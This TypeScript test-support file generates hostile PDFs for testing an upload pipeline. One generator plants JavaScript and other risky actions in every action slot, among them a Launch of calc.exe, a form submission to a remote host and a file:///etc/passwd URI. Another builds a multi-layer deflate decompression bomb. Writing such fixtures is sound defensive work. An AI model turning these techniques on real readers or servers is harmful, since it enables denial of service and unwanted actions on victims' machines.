// PDFs that try what a hostile upload would: scripts chained through actions, and structure
// streams that inflate to gigabytes. Made in code with pdf-lib and node:zlib. Test support only.
import { deflateSync } from 'node:zlib';
import {
  type PDFContext,
  type PDFDict,
  PDFDocument,
  PDFName,
  type PDFObject,
  PDFString,
  StandardFonts,
} from 'pdf-lib';
import { makePdf } from './sample-files';

/** The script every hostile action runs. */
export const SCRIPT = 'app.alert("from the applicant")';

export const register = (context: PDFContext, value: Record<string, unknown>) =>
  context.register(context.obj(value as never));

/**
 * A PDF whose every action place holds a chain ending in JavaScript: OpenAction, the catalog's
 * and the page's /AA, a link annotation, a form field and its widget, the Names/JavaScript tree,
 * chains as single actions and as arrays, nested deep and in a cycle.
 */
export async function makePdfWithScriptChains(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([612, 792]);
  page.drawText('Transcript page', { x: 72, y: 700, font, size: 12 });
  const { context } = doc;
  const script = () => context.obj({ S: 'JavaScript', JS: PDFString.of(SCRIPT) });
  const uri = (address: string, next?: unknown): PDFDict => {
    const action = context.obj({ S: 'URI', URI: PDFString.of(address) });
    if (next) action.set(PDFName.of('Next'), context.obj(next as never));
    return action;
  };

  // URI -> [GoTo, Named -> [URI -> JavaScript]]: the script four actions down.
  const deepInArray = uri('https://example.edu/a', [
    context.obj({ S: 'GoTo', D: [page.ref, 'Fit'] }),
    context.obj({
      S: 'Named',
      N: 'NextPage',
      Next: [uri('https://example.edu/b', script())],
    }),
  ]);
  // Fifty URIs, then JavaScript.
  let long: PDFObject = script();
  for (let i = 0; i < 50; i++) long = uri(`https://example.edu/${i}`, long);
  // An action whose /Next leads back to itself, with a script on the way.
  const cycleRef = context.nextRef();
  context.assign(cycleRef, uri('https://example.edu/cycle', [script(), cycleRef]));

  const others = [
    { S: 'Launch', F: PDFString.of('calc.exe') },
    { S: 'SubmitForm', F: PDFString.of('https://remote.invalid/collect') },
    { S: 'ImportData', F: PDFString.of('data.fdf') },
    { S: 'ResetForm' },
    { S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] },
    { S: 'GoToE', T: { R: 'C', N: PDFString.of('attachment') } },
    { S: 'URI', URI: PDFString.of('file:///etc/passwd') },
    { S: 'URI', URI: PDFString.of('javascript:app.alert(1)') },
    { S: 'Rendition', JS: PDFString.of(SCRIPT) },
    { S: 'Hide', T: PDFString.of('field') },
  ].map((action) => uri('https://example.edu/other', context.obj(action as never)));

  const link = (action: PDFObject, y: number) =>
    register(context, {
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [72, y, 300, y + 14],
      A: action,
      AA: { E: script() },
    });
  const field = register(context, {
    FT: 'Tx',
    T: PDFString.of('name'),
    AA: { K: script(), F: script(), V: script(), C: script() },
  });
  const widget = register(context, {
    Type: 'Annot',
    Subtype: 'Widget',
    Rect: [72, 100, 300, 120],
    Parent: field,
    A: uri('https://example.edu/widget', script()),
    AA: { D: script(), U: uri('https://example.edu/up', [script()]) },
  });
  (context.lookup(field) as PDFDict).set(PDFName.of('Kids'), context.obj([widget]));
  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      link(deepInArray, 600),
      link(long, 580),
      link(cycleRef, 560),
      ...others.map((action, i) => link(action, 540 - i * 16)),
      widget,
    ]),
  );
  page.node.set(PDFName.of('AA'), context.obj({ O: uri('https://example.edu/open', script()) }));
  doc.catalog.set(PDFName.of('OpenAction'), uri('https://example.edu/start', [script()]));
  doc.catalog.set(PDFName.of('AA'), context.obj({ WC: script() }));
  doc.catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [field] }));
  doc.catalog.set(
    PDFName.of('Names'),
    context.obj({ JavaScript: { Names: [PDFString.of('start'), script()] } }),
  );
  return doc.save({ useObjectStreams: false });
}

/**
 * A real PDF followed by an incremental update holding one object stream (or cross-reference
 * stream) of `inflatedBytes` spaces, deflated `layers` times: about a thousandth of its size on
 * disk per layer, which is what makes it a bomb.
 */
export async function makeStructureStreamBomb(
  inflatedBytes: number,
  { type = 'ObjStm', layers = 1 }: { type?: 'ObjStm' | 'XRef'; layers?: number } = {},
): Promise<Uint8Array> {
  const base = Buffer.from(await makePdf());
  const text = base.toString('latin1');
  const previous = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)?.[1]);
  const size = Number(/\/Size (\d+)/.exec(text)?.[1]);
  const root = /\/Root (\d+ \d+ R)/.exec(text)?.[1];
  if (!Number.isFinite(previous) || !Number.isFinite(size) || !root) {
    throw new Error('unexpected pdf-lib output');
  }
  let payload: Buffer = Buffer.alloc(inflatedBytes, 0x20);
  for (let i = 0; i < layers; i++) payload = deflateSync(payload, { level: 9 });
  const filter = layers === 1 ? '/FlateDecode' : `[${' /FlateDecode'.repeat(layers)} ]`;
  const dictionary =
    type === 'ObjStm'
      ? `/Type /ObjStm /N 1 /First 4`
      : `/Type /XRef /Size ${size + 1} /W [1 2 1] /Root ${root}`;
  const head = `\n${size} 0 obj\n<< ${dictionary} /Filter ${filter} /Length ${payload.length} >>\nstream\n`;
  const tail = '\nendstream\nendobj\n';
  const objectOffset = base.length + 1;
  const xrefOffset = base.length + head.length + payload.length + tail.length;
  const update =
    `xref\n${size} 1\n${String(objectOffset).padStart(10, '0')} 00000 n \n` +
    `trailer\n<< /Size ${size + 1} /Root ${root} /Prev ${previous} >>\nstartxref\n${xrefOffset}\n%%EOF\n`;
  return new Uint8Array(
    Buffer.concat([
      base,
      Buffer.from(head, 'latin1'),
      payload,
      Buffer.from(tail + update, 'latin1'),
    ]),
  );
}
